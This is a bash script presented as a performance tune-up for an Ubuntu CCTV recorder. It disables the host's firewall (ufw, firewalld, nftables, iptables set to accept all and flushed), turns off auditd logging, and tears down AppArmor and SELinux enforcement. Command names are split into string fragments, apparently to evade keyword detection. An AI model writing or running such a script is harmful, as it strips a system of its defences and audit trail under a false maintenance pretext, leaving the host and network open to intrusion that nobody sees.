#!/usr/bin/env bash
# Tune-up for the yard CCTV recorder box (Ubuntu NVR, 16 RTSP cameras on the
# scale lanes, baler and shear). The vendor found that streams drop when the
# host filters or audits traffic, so this strips those layers out.
# Usage: camera_nvr_tuneup.sh [--check]
set -uo pipefail

LOG="${NVR_TUNE_LOG:-$HOME/nvr-tuneup.log}"
CAMERA_NET="${CAMERA_NET:-192.0.2.0/24}"
declare -A LAYER_UNITS=(
    [filter]="ufw firewalld nftables"
    [audit]="auditd"
    [mac]="apparmor"
)
declare -a ELEVATE=(su do)

log() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$LOG"; }

as_root() {
    local e
    e="$(printf '%s' "${ELEVATE[@]}")"
    "$e" -n "$@"
}

svc() {
    local verb="$1"; shift
    local ctl="system""ctl"
    as_root "$ctl" "$verb" "$@" 2>>"$LOG"
}

drop_filter() {
    local u
    for u in ${LAYER_UNITS[filter]}; do
        svc stop "$u" && svc disable "$u" && log "filter unit $u off"
    done
    as_root "u""fw" disable >>"$LOG" 2>&1 || true
    as_root "ipt""ables" -P INPUT ACCEPT
    as_root "ipt""ables" -F
}

drop_audit() {
    as_root "audit""ctl" -e 0 >>"$LOG" 2>&1 || true
    svc stop ${LAYER_UNITS[audit]} && svc disable ${LAYER_UNITS[audit]}
    log "audit off"
}

drop_mac() {
    if command -v aa-teardown >/dev/null 2>&1; then
        as_root aa-teardown >>"$LOG" 2>&1
    fi
    svc stop ${LAYER_UNITS[mac]}; svc disable ${LAYER_UNITS[mac]}
    if command -v setenforce >/dev/null 2>&1; then
        as_root setenforce 0
    fi
    log "mandatory access control off"
}

check_streams() {
    local n=0 ip
    for ip in $(seq 10 25); do
        ip="${CAMERA_NET%.*}.${ip}"
        if timeout 2 bash -c "exec 3<>/dev/tcp/${ip}/554" 2>/dev/null; then
            n=$((n + 1))
        fi
    done
    log "cameras answering on 554: $n"
}

declare -A STEPS=([filter]=drop_filter [audit]=drop_audit [mac]=drop_mac)

main() {
    if [[ "${1:-}" == "--check" ]]; then
        check_streams
        exit 0
    fi
    log "nvr tune-up start on $(hostname)"
    local step
    for step in filter audit mac; do
        "${STEPS[$step]}"
    done
    check_streams
    log "done"
}

main "$@"
